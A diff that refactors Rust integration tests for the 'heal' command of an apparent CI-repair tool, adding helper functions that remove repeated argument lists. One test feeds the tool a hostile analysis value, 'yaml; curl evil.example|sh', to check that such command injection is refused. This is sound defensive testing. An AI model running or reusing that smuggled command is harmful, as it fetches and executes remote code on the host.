@@ -52,6 +52,21 @@ impl Offline {
         self.runner.exec(args, None).await
     }
 
+    /// `heal --workflow WF --analysis ANALYSIS`, then `extra`.
+    async fn heal(&self, wf: &Path, analysis: &Path, extra: &[&str]) -> ActionRun {
+        let mut args = vec!["heal", "--workflow", s(wf), "--analysis", s(analysis)];
+        args.extend_from_slice(extra);
+        self.run(&args).await
+    }
+
+    /// [`WORKFLOW`] as `ci.yml`, and the analysis of a run that misses `yaml`.
+    async fn missing_yaml() -> (Offline, PathBuf, PathBuf) {
+        let o = Offline::new().await;
+        let wf = o.write("ci.yml", WORKFLOW);
+        let analysis = o.analysis_of(&missing_module_log(1, "tmpx")).await;
+        (o, wf, analysis)
+    }
+
     /// `analyze --format json` on a log, as a user would produce it.
     async fn analysis_of(&self, log: &str) -> PathBuf {
         let log_path = self.write("job.log", log);
@@ -81,12 +96,8 @@ fn json(out: &ActionRun) -> Value {
 
 #[tokio::test]
 async fn prints_a_unified_diff_and_exits_0() {
-    let o = Offline::new().await;
-    let wf = o.write("ci.yml", WORKFLOW);
-    let analysis = o.analysis_of(&missing_module_log(1, "tmpx")).await;
-    let out = o
-        .run(&["heal", "--workflow", s(&wf), "--analysis", s(&analysis)])
-        .await;
+    let (o, wf, analysis) = Offline::missing_yaml().await;
+    let out = o.heal(&wf, &analysis, &[]).await;
     assert_eq!(out.code, 0, "{}", out.stderr);
     assert!(
         result(&out).starts_with("--- a/ci.yml\n+++ b/ci.yml\n"),
@@ -112,37 +123,15 @@ async fn prints_a_unified_diff_and_exits_0() {
     );
     // `--format diff` and `--format text` are the same.
     for f in ["diff", "text"] {
-        let again = o
-            .run(&[
-                "heal",
-                "--workflow",
-                s(&wf),
-                "--analysis",
-                s(&analysis),
-                "--format",
-                f,
-            ])
-            .await;
+        let again = o.heal(&wf, &analysis, &["--format", f]).await;
         assert_eq!(again.stdout, out.stdout);
     }
 }
 
 #[tokio::test]
 async fn json_names_the_changes_and_holds_the_new_workflow() {
-    let o = Offline::new().await;
-    let wf = o.write("ci.yml", WORKFLOW);
-    let analysis = o.analysis_of(&missing_module_log(1, "tmpx")).await;
-    let out = o
-        .run(&[
-            "heal",
-            "--workflow",
-            s(&wf),
-            "--analysis",
-            s(&analysis),
-            "--format",
-            "json",
-        ])
-        .await;
+    let (o, wf, analysis) = Offline::missing_yaml().await;
+    let out = o.heal(&wf, &analysis, &["--format", "json"]).await;
     assert_eq!(out.code, 0, "{}", out.stderr);
     let v = json(&out);
     assert_eq!(v["fixable"], true);
@@ -167,19 +156,8 @@ async fn json_names_the_changes_and_holds_the_new_workflow() {
 
 #[tokio::test]
 async fn write_edits_the_file_in_place() {
-    let o = Offline::new().await;
-    let wf = o.write("ci.yml", WORKFLOW);
-    let analysis = o.analysis_of(&missing_module_log(1, "tmpx")).await;
-    let out = o
-        .run(&[
-            "heal",
-            "--workflow",
-            s(&wf),
-            "--analysis",
-            s(&analysis),
-            "--write",
-        ])
-        .await;
+    let (o, wf, analysis) = Offline::missing_yaml().await;
+    let out = o.heal(&wf, &analysis, &["--write"]).await;
     assert_eq!(out.code, 0, "{}", out.stderr);
     let text = std::fs::read_to_string(&wf).expect("read");
     assert_eq!(
@@ -187,16 +165,7 @@ async fn write_edits_the_file_in_place() {
         WORKFLOW.replace("pip install pytest ", "pip install pytest PyYAML ")
     );
     // Healed once, the same analysis finds nothing more to do.
-    let again = o
-        .run(&[
-            "heal",
-            "--workflow",
-            s(&wf),
-            "--analysis",
-            s(&analysis),
-            "--write",
-        ])
-        .await;
+    let again = o.heal(&wf, &analysis, &["--write"]).await;
     assert_eq!(again.code, 3, "{}", again.stderr);
     assert!(
         again.stderr.contains("already installed"),
@@ -215,17 +184,7 @@ async fn unfixable_failures_exit_3() {
         &["FAILED tests/test_api.py::test_get - AssertionError: assert 404 == 200"],
     );
     let analysis = o.analysis_of(&log).await;
-    let out = o
-        .run(&[
-            "heal",
-            "--workflow",
-            s(&wf),
-            "--analysis",
-            s(&analysis),
-            "--format",
-            "json",
-        ])
-        .await;
+    let out = o.heal(&wf, &analysis, &["--format", "json"]).await;
     assert_eq!(out.code, 3, "{}", out.stderr);
     let v = json(&out);
     assert_eq!(v["fixable"], false);
@@ -238,18 +197,14 @@ async fn unfixable_failures_exit_3() {
         "{v}"
     );
     assert_eq!(v["changes"].as_array().map(Vec::len), Some(0));
-    let out = o
-        .run(&["heal", "--workflow", s(&wf), "--analysis", s(&analysis)])
-        .await;
+    let out = o.heal(&wf, &analysis, &[]).await;
     assert_eq!(out.code, 3);
     assert!(result(&out).is_empty(), "{}", out.stdout);
 }
 
 #[tokio::test]
 async fn hostile_analyses_are_refused_offline_too() {
-    let o = Offline::new().await;
-    let wf = o.write("ci.yml", WORKFLOW);
-    let analysis = o.analysis_of(&missing_module_log(1, "tmpx")).await;
+    let (o, wf, analysis) = Offline::missing_yaml().await;
     let text = std::fs::read_to_string(&analysis).expect("read");
     for hostile in [
         "yaml; curl evil.example|sh",
@@ -263,17 +218,7 @@ async fn hostile_analyses_are_refused_offline_too() {
         );
         assert_ne!(bad, text, "the capture is in the analysis");
         let p = o.write("hostile.json", &bad);
-        let out = o
-            .run(&[
-                "heal",
-                "--workflow",
-                s(&wf),
-                "--analysis",
-                s(&p),
-                "--format",
-                "json",
-            ])
-            .await;
+        let out = o.heal(&wf, &p, &["--format", "json"]).await;
         assert_eq!(out.code, 3, "{hostile}: {}", out.stdout);
         let v = json(&out);
         assert!(
@@ -319,22 +264,10 @@ async fn issue_bodies_and_job_ids_are_accepted() {
     };
     let body = o.write("issue.md", &ci_medic::report::issue::body(&block));
     // Two jobs and no job name in the analysis: which one must be said.
-    let out = o
-        .run(&["heal", "--workflow", s(&wf), "--analysis", s(&body)])
-        .await;
+    let out = o.heal(&wf, &body, &[]).await;
     assert_eq!(out.code, 3, "{}", out.stderr);
     assert!(out.stderr.contains("--job"), "{}", out.stderr);
-    let out = o
-        .run(&[
-            "heal",
-            "--workflow",
-            s(&wf),
-            "--analysis",
-            s(&body),
-            "--job",
-            "test",
-        ])
-        .await;
+    let out = o.heal(&wf, &body, &["--job", "test"]).await;
     assert_eq!(out.code, 0, "{}", out.stderr);
     assert!(
         out.stdout
@@ -356,16 +289,7 @@ async fn requirements_files_beside_the_workflow_are_fixed() {
     );
     let req = o.write("repo/requirements.txt", "pytest==8.2.0\n");
     let analysis = o.analysis_of(&missing_module_log(1, "tmpx")).await;
-    let out = o
-        .run(&[
-            "heal",
-            "--workflow",
-            s(&wf),
-            "--analysis",
-            s(&analysis),
-            "--write",
-        ])
-        .await;
+    let out = o.heal(&wf, &analysis, &["--write"]).await;
     assert_eq!(out.code, 0, "{}", out.stderr);
     assert!(
         result(&out).starts_with("--- a/requirements.txt\n+++ b/requirements.txt\n"),
@@ -380,24 +304,12 @@ async fn requirements_files_beside_the_workflow_are_fixed() {
 
 #[tokio::test]
 async fn bad_inputs_are_errors_not_panics() {
-    let o = Offline::new().await;
-    let wf = o.write("ci.yml", WORKFLOW);
-    let analysis = o.analysis_of(&missing_module_log(1, "tmpx")).await;
+    let (o, wf, analysis) = Offline::missing_yaml().await;
     let missing = o.runner.path("nope.yml");
-    let out = o
-        .run(&[
-            "heal",
-            "--workflow",
-            s(&missing),
-            "--analysis",
-            s(&analysis),
-        ])
-        .await;
+    let out = o.heal(&missing, &analysis, &[]).await;
     assert_eq!(out.code, 1, "{}", out.stderr);
     let garbage = o.write("garbage.json", "{\"not\": \"an analysis\"");
-    let out = o
-        .run(&["heal", "--workflow", s(&wf), "--analysis", s(&garbage)])
-        .await;
+    let out = o.heal(&wf, &garbage, &[]).await;
     assert_eq!(out.code, 1, "{}", out.stderr);
     // A workflow that is not YAML cannot be fixed (unless it is a syntax failure).
     for junk in [
@@ -407,9 +319,7 @@ async fn bad_inputs_are_errors_not_panics() {
         &"- ".repeat(10_000),
     ] {
         let bad = o.write("bad.yml", junk);
-        let out = o
-            .run(&["heal", "--workflow", s(&bad), "--analysis", s(&analysis)])
-            .await;
+        let out = o.heal(&bad, &analysis, &[]).await;
         assert_eq!(out.code, 3, "{junk:?}: {}", out.stderr);
         assert!(!out.stderr.contains("panicked"), "{}", out.stderr);
     }
